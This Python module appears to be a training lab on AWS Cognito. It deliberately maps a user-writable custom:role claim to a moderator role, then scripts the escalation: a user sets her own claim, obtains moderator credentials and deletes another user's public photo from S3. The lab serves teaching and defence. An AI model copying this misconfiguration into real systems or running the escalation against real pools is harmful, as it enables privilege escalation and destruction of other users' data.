"""Lab 5: role mapping on a claim the user can change.

A `Rules` role mapping reads claims of the user's ID token. A custom
attribute the app client may write is a claim every user sets for herself
(UpdateUserAttributes with her own access token), so a rule "custom:role
equals moderator gives the moderator role" lets anyone become a moderator.
AWS: "Only map claims that cannot be directly set by the end user."
https://docs.aws.amazon.com/cognito/latest/developerguide/role-based-access-control.html

Cognito cannot remove a custom attribute once added, so `revert` leaves
`custom:role` in the user pool's schema, readable and writable by no app
client and read by no role mapping: inert.
"""

from __future__ import annotations

import struct
import uuid
import zlib
from typing import Any

import requests
from botocore.exceptions import ClientError
from django.conf import settings

from core.deployment import Deployment
from infra import aws, provision
from workshop.base import AttackResult, Lab, Report
from workshop.labs.public_client import user_pool_sign_in
from workshop.outsider import HTTP_TIMEOUT, AttackStepFailed, Outsider, refused

ATTRIBUTE = "role"
CLAIM = f"custom:{ATTRIBUTE}"  # the attribute's name is also its ID-token claim's
ATTACKER = "alice@example.com"
VICTIM = "bob@example.com"
VICTIM_NAME = "bob"  # how the public gallery names him (the part of his email before the @)
PUBLIC_PAGE = 100  # photos read from the public gallery when looking for one of bob's


# --- the misconfiguration ---------------------------------------------------------------------


def _roles(deployment: Deployment) -> dict[str, str]:
    return {
        "authenticated": deployment.authenticated_role_arn,
        "unauthenticated": deployment.unauthenticated_role_arn,
        "moderator": deployment.moderator_role_arn,
    }


def _mapping_key(deployment: Deployment) -> str:
    return f"{deployment.provider}:{deployment.app_client_id}"


def _rules_mapping(deployment: Deployment) -> dict[str, Any]:
    """Moderators by the claim users write, and (so carol stays one) by their group."""
    moderator = deployment.moderator_role_arn
    return {
        "Type": "Rules",
        "AmbiguousRoleResolution": "AuthenticatedRole",
        "RulesConfiguration": {
            "Rules": [
                {"Claim": CLAIM, "MatchType": "Equals", "Value": "moderator", "RoleARN": moderator},
                {"Claim": "cognito:groups", "MatchType": "Contains", "Value": provision.MODERATORS, "RoleARN": moderator},
            ]
        },
    }


def _client_config() -> dict[str, Any]:
    """Provisioning's app client, reading and writing custom:role too (on AWS
    an ID token carries only the attributes its client may read)."""
    config = provision.app_client_config()
    return {
        **config,
        "ReadAttributes": [*config["ReadAttributes"], CLAIM],
        "WriteAttributes": [*config["WriteAttributes"], CLAIM],
    }


def apply(*, deployment: Deployment, report: Report) -> None:
    pool = aws.user_pool_describe(pool_id=deployment.user_pool_id)
    if CLAIM not in {a.get("Name") for a in pool.get("SchemaAttributes", [])}:
        aws.user_pool_custom_attribute_add(pool_id=deployment.user_pool_id, name=ATTRIBUTE)
        report(f"Added the custom attribute {CLAIM} to user pool {deployment.user_pool_id} (Cognito can never remove it)")
    names = provision.deployment_names()
    client = aws.app_client_describe(pool_id=deployment.user_pool_id, client_id=deployment.app_client_id)
    if provision._drifted(_client_config(), client):  # noqa: SLF001 - provisioning's own comparison
        aws.app_client_update(
            pool_id=deployment.user_pool_id, client_id=deployment.app_client_id, name=names.app_client, config=_client_config()
        )
        report(f"Let app client {names.app_client} read and write {CLAIM}")
    desired = provision.identity_pool_roles_config(
        roles=_roles(deployment), provider=deployment.provider, client_id=deployment.app_client_id
    )
    mappings = {**desired["RoleMappings"], _mapping_key(deployment): _rules_mapping(deployment)}
    if aws.identity_pool_roles_get(identity_pool_id=deployment.identity_pool_id).get("RoleMappings") != mappings:
        aws.identity_pool_roles_set(identity_pool_id=deployment.identity_pool_id, roles=desired["Roles"], role_mappings=mappings)
        report(f'Set a Rules role mapping: {CLAIM} equals "moderator" gives the moderator role')


def revert(*, deployment: Deployment, report: Report) -> None:
    """Provisioning's own ensure functions put back the app client and the
    Token mapping; the attribute stays (Cognito cannot remove it)."""
    provision._app_client_ensure(  # noqa: SLF001 - the one function that knows what the client should be
        pool_id=deployment.user_pool_id, names=provision.deployment_names(), report=report
    )
    provision._identity_pool_roles_ensure(  # noqa: SLF001
        identity_pool_id=deployment.identity_pool_id,
        desired=provision.identity_pool_roles_config(
            roles=_roles(deployment), provider=deployment.provider, client_id=deployment.app_client_id
        ),
        report=report,
    )
    report(
        f"{CLAIM} stays in the user pool's schema (Cognito cannot remove a custom attribute); "
        "no app client may read or write it now, and no role mapping reads it"
    )


def applied(*, deployment: Deployment) -> bool:
    """Either half is live: the client may write the claim, or a rule reads it."""
    client = aws.app_client_describe(pool_id=deployment.user_pool_id, client_id=deployment.app_client_id)
    mapping = aws.identity_pool_roles_get(identity_pool_id=deployment.identity_pool_id)["RoleMappings"].get(
        _mapping_key(deployment), {}
    )
    rules = (mapping.get("RulesConfiguration") or {}).get("Rules", [])
    return CLAIM in (client.get("WriteAttributes") or []) or any(rule.get("Claim") == CLAIM for rule in rules)


# --- the attack ---------------------------------------------------------------------------------


def _png() -> bytes:
    """A 2x2 PNG, made here so the repository ships no binary."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    rows = b"".join(b"\x00" + b"\x33\x66\xcc" * 2 for _ in range(2))
    header = struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def _app_post(outsider: Outsider, session: requests.Session, path: str, body: dict[str, Any]) -> requests.Response:
    """A JSON POST to the app with its CSRF token, as the pages' scripts send one."""
    return session.post(
        f"{outsider.app_url}{path}",
        json=body,
        headers={"X-CSRFToken": session.cookies.get("csrftoken", ""), "Referer": f"{outsider.app_url}/"},
        timeout=HTTP_TIMEOUT,
    )


def _bobs_published_photo(outsider: Outsider) -> dict[str, Any] | None:
    answer = requests.get(f"{outsider.app_url}/api/photos/public", params={"limit": PUBLIC_PAGE}, timeout=HTTP_TIMEOUT)
    if answer.status_code != 200:
        raise AttackStepFailed(f"the public gallery answered HTTP {answer.status_code}")
    return next((p for p in answer.json()["photos"] if p["owner"]["displayName"] == VICTIM_NAME), None)


def _bob_publishes(outsider: Outsider) -> dict[str, Any]:
    """Set-up: bob uploads a photo straight to his public prefix and registers it, as the upload page does."""
    session = outsider.app_sign_in(VICTIM, settings.DEMO_PASSWORD)
    creds = outsider.app_credentials(session)
    key = f"public/{creds['identityId']}/{uuid.uuid4()}.png"
    outsider.s3(creds).put_object(Bucket=creds["bucket"], Key=key, Body=_png(), ContentType="image/png")
    answer = _app_post(outsider, session, "/api/photos", {"key": key, "title": "Bob's lab 5 photo"})
    if answer.status_code not in (200, 201):
        raise AttackStepFailed(f"the app did not register bob's photo (HTTP {answer.status_code}: {answer.text[:200]})")
    return answer.json()


def attack(*, outsider: Outsider) -> AttackResult:
    outsider.step(f"Looking for a photo of {VICTIM_NAME}'s in the public gallery (GET /api/photos/public, open to anyone)")
    photo = _bobs_published_photo(outsider)
    if photo is None:
        outsider.step(f"Set-up, not the attack: {VICTIM} publishes a photo through the app")
        photo = _bob_publishes(outsider)
    outsider.got(f"photo {photo['id']} at {photo['publicKey']}")

    signed_in = user_pool_sign_in(outsider, email=ATTACKER, password=settings.DEMO_PASSWORD)
    outsider.step(f'{ATTACKER} sets her own {CLAIM} to "moderator": UpdateUserAttributes with her access token')
    try:
        outsider.client("cognito-idp").update_user_attributes(
            AccessToken=signed_in.access_token, UserAttributes=[{"Name": CLAIM, "Value": "moderator"}]
        )
    except ClientError as exc:
        return refused(exc)
    outsider.got(f'{CLAIM} = "moderator" on her account')

    outsider.step(f"{ATTACKER} signs in to the app again; her new ID token carries the claim, and the app asks for credentials")
    session = outsider.app_sign_in(ATTACKER, settings.DEMO_PASSWORD)
    creds = outsider.app_credentials(session)
    arn = outsider.client("sts", creds).get_caller_identity()["Arn"]
    outsider.got(f"credentials for {arn}")

    outsider.step(f"Taking the photo down as the app's moderators do: DeleteObject on its public copies, with those credentials")
    s3 = outsider.s3(creds)
    deleted = []
    for key in filter(None, dict.fromkeys([photo["publicKey"], photo.get("publicThumbKey")])):
        try:
            s3.delete_object(Bucket=creds["bucket"], Key=key)
        except ClientError as exc:
            return refused(exc)
        deleted.append(key)
    outsider.got(f"deleted {', '.join(deleted)}")

    outsider.step(f"POST /api/photos/{photo['id']}/take-down: the app asks STS whose credentials these are, and records it")
    answer = _app_post(outsider, session, f"/api/photos/{photo['id']}/take-down", {"reason": "taken down by lab 5"})
    if answer.status_code == 200:
        outsider.got(f"{VICTIM_NAME}'s photo {photo['id']} taken down: it is gone from the public gallery")
    else:
        outsider.report(f"   the app did not record it (HTTP {answer.status_code}); the public copy is deleted all the same")
    return AttackResult(succeeded=True, obtained=(arn, *deleted))


LAB = Lab(
    number=5,
    slug="05-writable-role-claim",
    title="Role mapping on a claim the user can change",
    rule="role-mapping-writable-claim",
    apply=apply,
    revert=revert,
    applied=applied,
    attack=attack,
    culprit=(
        f'Identity pool role mapping Type: Rules, rule "{CLAIM} Equals moderator" gives the moderator role, '
        f"and app client WriteAttributes includes {CLAIM}: every user writes that claim for herself."
    ),
)
